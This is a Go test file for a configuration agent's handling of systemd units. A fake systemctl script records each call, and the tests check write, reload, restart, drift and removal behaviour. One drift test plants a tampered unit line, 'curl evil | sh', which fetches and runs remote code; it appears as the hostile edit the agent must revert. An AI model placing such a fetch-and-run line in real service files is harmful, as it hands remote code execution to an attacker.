package agent_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/meshctl/mesh/agent"
	"github.com/meshctl/mesh/events"
	"github.com/meshctl/mesh/wire"
)

// A module with a unit (issue 32): its file and a setting the unit reads.
const unitModule = `{"module":"greeter","settings":{"greeting":{"default":"hello"}},
  "resources":[{"kind":"unit","name":"greeter.service",
    "template":"[Service]\nExecStart=/usr/bin/greeter {{.Settings.greeting}}\n\n[Install]\nWantedBy=multi-user.target\n"}]}`

// fakeSystemctl is a systemctl the test provides: it records each call's
// arguments, a line a call, and fails the call whose arguments are in the
// file fail beside it, saying what systemd's systemctl says then. It
// answers the calls it was made so far.
func fakeSystemctl(t *testing.T) (program string, calls func() []string, failOn func(string)) {
	t.Helper()
	dir := t.TempDir()
	program = filepath.Join(dir, "systemctl")
	script := `#!/bin/sh
here=$(dirname "$0")
echo "$*" >> "$here/calls"
if [ -f "$here/fail" ] && [ "$*" = "$(cat "$here/fail")" ]; then
  echo "Job for $2 failed because the control process exited with error code." >&2
  echo "See \"systemctl status $2\" and \"journalctl -xeu $2\" for details." >&2
  exit 1
fi
`
	if err := os.WriteFile(program, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	calls = func() []string {
		b, err := os.ReadFile(filepath.Join(dir, "calls"))
		if errors.Is(err, os.ErrNotExist) {
			return nil
		}
		if err != nil {
			t.Fatal(err)
		}
		return strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	}
	failOn = func(call string) {
		p := filepath.Join(dir, "fail")
		if call == "" {
			os.Remove(p)
			return
		}
		if err := os.WriteFile(p, []byte(call+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return program, calls, failOn
}

// withSystemd is an agent whose machine has systemd, told of its units by
// the given systemctl.
func withSystemd(systemctl string) func(*agent.Config) {
	return func(c *agent.Config) {
		c.Systemctl = systemctl
		c.Facts = func() (map[string]string, []string) {
			return map[string]string{"os": "linux", "systemd": "yes"}, []string{"linux", "systemd"}
		}
	}
}

// A unit's life on a node with systemd: written under the root, systemd
// reloaded, the unit enabled and restarted, in that order; a declaration
// that leaves the unit as it was calls systemctl not at all; a change
// restarts it once; a restart that fails fails the apply naming the unit
// with systemctl's own words, and the next apply of the same content
// restarts it again; taken away, the unit is stopped and disabled before
// its file goes, then systemd reloaded. Fails on any other call, order or
// count, and above all on a restart when nothing changed.
func TestAUnitIsWrittenReloadedEnabledAndRestartedOnlyWhenItChanged(t *testing.T) {
	t.Parallel()
	m := newMesh(t)
	systemctl, calls, failOn := fakeSystemctl(t)
	m.Enroll("box")
	root := filepath.Join(t.TempDir(), "root")
	m.AgentWith("box", root, withSystemd(systemctl))
	eventually(t, "box's facts to say systemd", func() bool {
		n, err := m.H.Status.ShowNode(m.Ctx, wire.NameRequest{Name: "box"})
		m.Must(err)
		return slices.Contains(n.Detected, "systemd")
	})
	m.WriteModule(unitModule)
	m.WriteModule(`{"module":"motd","resources":[{"kind":"file","path":"/etc/motd","mode":"0644","content":"hi\n"}]}`)
	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
	apply := func(outcome events.Outcome) []events.ResourceFailure {
		t.Helper()
		r := m.Push("box")
		return m.ReportWhere("box", r.Sent[0].Digest, outcome).Failed
	}
	want := func(why string, more ...string) {
		t.Helper()
		if got := calls(); !slices.Equal(got, more) {
			t.Fatalf("%s: systemctl was called\n%s\nwant\n%s", why, strings.Join(got, "\n"), strings.Join(more, "\n"))
		}
	}
	settle := []string{"daemon-reload", "enable greeter.service", "restart greeter.service"}

	m.Assign("box", "greeter", nil)
	apply(events.OutcomeApplied)
	b, err := os.ReadFile(unitFile)
	if err != nil || !strings.Contains(string(b), "ExecStart=/usr/bin/greeter hello\n") {
		t.Fatalf("the unit file: %q %v", b, err)
	}
	if info, _ := os.Stat(unitFile); info.Mode().Perm() != 0o644 {
		t.Fatalf("the unit file's mode is %v", info.Mode().Perm())
	}
	want("first apply", settle...)

	// Another module changes the declaration; the unit is as it was.
	m.Assign("box", "motd", nil)
	apply(events.OutcomeApplied)
	want("an apply that leaves the unit as it was", settle...)

	m.Assign("box", "greeter", map[string]string{"greeting": "hi"})
	apply(events.OutcomeApplied)
	want("the unit changed", slices.Concat(settle, settle)...)

	failOn("restart greeter.service")
	m.Assign("box", "greeter", map[string]string{"greeting": "hey"})
	failed := apply(events.OutcomeFailed)
	if len(failed) != 1 || failed[0].Path != "/etc/systemd/system/greeter.service" ||
		!strings.HasPrefix(failed[0].Reason, "unit greeter.service: "+systemctl+" restart greeter.service failed: Job for greeter.service failed because the control process exited with error code.") {
		t.Fatalf("a failed restart was reported as %+v", failed)
	}
	failOn("")
	// The same content again: the file is right, the unit is not settled.
	apply(events.OutcomeApplied)
	want("a restart that failed, then the same content again", slices.Concat(settle, settle, settle, settle)...)

	if _, err := m.H.Nodes.Unassign(m.Ctx, wire.UnassignRequest{CommandID: wire.NewCommandID(), Node: "box", Module: "greeter"}); err != nil {
		t.Fatal(err)
	}
	apply(events.OutcomeApplied)
	want("the unit taken away", slices.Concat(settle, settle, settle, settle,
		[]string{"stop greeter.service", "disable greeter.service", "daemon-reload"})...)
	if _, err := os.Stat(unitFile); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the unit's file stayed after it left: %v", err)
	}
	m.Verified()
}

// A unit file edited by hand is put back by the drift check, and systemd
// reloaded and the unit restarted, since systemd may have read the edit.
// Fails when a unit put back is left running what it was edited to.
func TestAUnitPutBackAfterDriftIsRestarted(t *testing.T) {
	t.Parallel()
	m, root, systemctl, _ := greeterUnitOnBox(t, func(c *agent.Config) { c.DriftEvery = 20 * time.Millisecond })
	calls := systemctl.calls
	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
	declared, err := os.ReadFile(unitFile)
	m.Must(err)
	m.Must(os.WriteFile(unitFile, []byte("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"), 0o644))
	eventually(t, "the correction in history", func() bool { return len(m.historyDrift("box")) > 0 })
	if b, _ := os.ReadFile(unitFile); string(b) != string(declared) {
		t.Fatalf("the unit was not put back: %q", b)
	}
	settle := []string{"daemon-reload", "enable greeter.service", "restart greeter.service"}
	eventually(t, "the unit put back to be restarted", func() bool { return len(calls()) >= 2*len(settle) })
	if got := calls(); !slices.Equal(got, slices.Concat(settle, settle)) {
		t.Fatalf("systemctl was called %q", got)
	}
}

// A unit that systemctl cannot stop keeps its file and the mesh's claim on
// it: the apply fails naming it, and the next apply stops, disables and
// removes it. Fails when a unit still running loses its file, which
// nothing would then stop.
func TestAUnitThatCannotBeStoppedIsKeptUntilItIs(t *testing.T) {
	t.Parallel()
	m, root, fake, _ := greeterUnitOnBox(t, func(*agent.Config) {})
	systemctl, calls, failOn := fake.program, fake.calls, fake.failOn
	failOn("stop greeter.service")
	if _, err := m.H.Nodes.Unassign(m.Ctx, wire.UnassignRequest{CommandID: wire.NewCommandID(), Node: "box", Module: "greeter"}); err != nil {
		t.Fatal(err)
	}
	failed := m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeFailed).Failed
	if len(failed) != 1 || !strings.Contains(failed[0].Reason, "unit greeter.service: "+systemctl+" stop greeter.service failed: Job for greeter.service failed") {
		t.Fatalf("a failed stop was reported as %+v", failed)
	}
	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
	if _, err := os.Stat(unitFile); err != nil {
		t.Fatalf("a unit that would not stop lost its file: %v", err)
	}
	failOn("")
	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
	if _, err := os.Stat(unitFile); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the unit's file stayed once it stopped: %v", err)
	}
	want := []string{"daemon-reload", "enable greeter.service", "restart greeter.service",
		"stop greeter.service", "stop greeter.service", "disable greeter.service", "daemon-reload"}
	if got := calls(); !slices.Equal(got, want) {
		t.Fatalf("systemctl was called %q, want %q", got, want)
	}
}

// A unit whose path becomes a plain file's is stopped and disabled as a
// unit that leaves, and the file stays, now the file's; leaving later, the
// file is removed and systemctl not called again. Fails when a unit the
// mesh no longer declares as one runs on unsaid.
func TestAUnitThatBecomesAFileIsStopped(t *testing.T) {
	t.Parallel()
	m, root, systemctl, _ := greeterUnitOnBox(t, func(*agent.Config) {})
	m.WriteModule(`{"module":"greeter","resources":[{"kind":"file","path":"/etc/systemd/system/greeter.service","mode":"0644","content":"# kept by hand\n"}]}`)
	m.Assign("box", "greeter", nil)
	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
	if b, err := os.ReadFile(unitFile); err != nil || string(b) != "# kept by hand\n" {
		t.Fatalf("the file at the unit's path: %q %v", b, err)
	}
	want := []string{"daemon-reload", "enable greeter.service", "restart greeter.service", "stop greeter.service", "disable greeter.service", "daemon-reload"}
	if got := systemctl.calls(); !slices.Equal(got, want) {
		t.Fatalf("systemctl was called %q, want %q", got, want)
	}
	if _, err := m.H.Nodes.Unassign(m.Ctx, wire.UnassignRequest{CommandID: wire.NewCommandID(), Node: "box", Module: "greeter"}); err != nil {
		t.Fatal(err)
	}
	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
	if _, err := os.Stat(unitFile); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the file stayed after it left: %v", err)
	}
	if got := systemctl.calls(); !slices.Equal(got, want) {
		t.Fatalf("a plain file leaving called systemctl: %q", got)
	}
}

// An agent killed after it wrote a unit and before it restarted it leaves
// the new file in place and its state saying the apply began (beginApply
// saves it before the first write). Started again, it finds the file
// already right, and restarts the unit all the same: what the unit last
// settled on is in the state, not in the file. Fails when a unit whose
// restart a kill cut off runs its old content until its next change.
func TestAUnitCutOffBeforeItsRestartIsRestartedAfter(t *testing.T) {
	t.Parallel()
	m, root, systemctl, stop := greeterUnitOnBox(t, func(*agent.Config) {})
	m.Assign("box", "greeter", map[string]string{"greeting": "hi"})
	stateFile := filepath.Join(root+".state", "state.json")
	eventually(t, "the first apply's state to be saved", func() bool {
		var st agent.State
		b, err := os.ReadFile(stateFile)
		return err == nil && json.Unmarshal(b, &st) == nil && st.Applying == nil && st.Units["/etc/systemd/system/greeter.service"] != ""
	})
	stop()
	cut := m.Push("box").Sent[0]
	// What the kill left: the state as beginApply saved it, the unit's
	// new content written, and systemctl never told.
	var st agent.State
	b, err := os.ReadFile(stateFile)
	m.Must(err)
	m.Must(json.Unmarshal(b, &st))
	st.Applying = &agent.Applying{Sequence: cut.Sequence, Digest: cut.Digest, BeganAt: time.Now().UTC()}
	b, _ = json.Marshal(st)
	m.Must(os.WriteFile(stateFile, b, 0o600))
	m.Must(os.WriteFile(filepath.Join(root, "etc/systemd/system/greeter.service"),
		[]byte("[Service]\nExecStart=/usr/bin/greeter hi\n\n[Install]\nWantedBy=multi-user.target\n"), 0o644))

	m.AgentWith("box", root, withSystemd(systemctl.program))
	m.ReportWhere("box", cut.Digest, events.OutcomeApplied)
	settle := []string{"daemon-reload", "enable greeter.service", "restart greeter.service"}
	if got := systemctl.calls(); !slices.Equal(got, slices.Concat(settle, settle)) {
		t.Fatalf("systemctl was called %q after the cut apply", got)
	}
}

// A unit still declared whose file cannot be written (a symlink stands
// there) fails the apply and is neither stopped nor restarted: it runs as
// it ran. Fails when a write that failed is taken for the unit leaving.
func TestAUnitWhoseFileCannotBeWrittenIsLeftRunning(t *testing.T) {
	t.Parallel()
	m, root, systemctl, _ := greeterUnitOnBox(t, func(*agent.Config) {})
	unitFile := filepath.Join(root, "etc/systemd/system/greeter.service")
	m.Must(os.Remove(unitFile))
	m.Must(os.Symlink("/dev/null", unitFile))
	m.Assign("box", "greeter", map[string]string{"greeting": "hi"})
	failed := m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeFailed).Failed
	if len(failed) != 1 || !strings.Contains(failed[0].Reason, "is a symlink") {
		t.Fatalf("the apply over a symlink failed with %+v", failed)
	}
	if got := systemctl.calls(); !slices.Equal(got, []string{"daemon-reload", "enable greeter.service", "restart greeter.service"}) {
		t.Fatalf("systemctl was called %q after a unit's write failed", got)
	}
}

// fakeCtl is fakeSystemctl's program and what it answers.
type fakeCtl struct {
	program string
	calls   func() []string
	failOn  func(string)
}

// greeterUnitOnBox is a mesh whose node box has systemd, its agent (set
// as the test needs) told of units by a systemctl the test provides, with
// the greeter unit applied.
func greeterUnitOnBox(t *testing.T, set func(*agent.Config)) (m *mesh, root string, f fakeCtl, stop func()) {
	t.Helper()
	m = newMesh(t)
	f.program, f.calls, f.failOn = fakeSystemctl(t)
	m.Enroll("box", "systemd")
	root = filepath.Join(t.TempDir(), "root")
	stop = m.AgentWith("box", root, func(c *agent.Config) { withSystemd(f.program)(c); set(c) })
	m.WriteModule(unitModule)
	m.Assign("box", "greeter", nil)
	m.ReportWhere("box", m.Push("box").Sent[0].Digest, events.OutcomeApplied)
	return m, root, f, stop
}
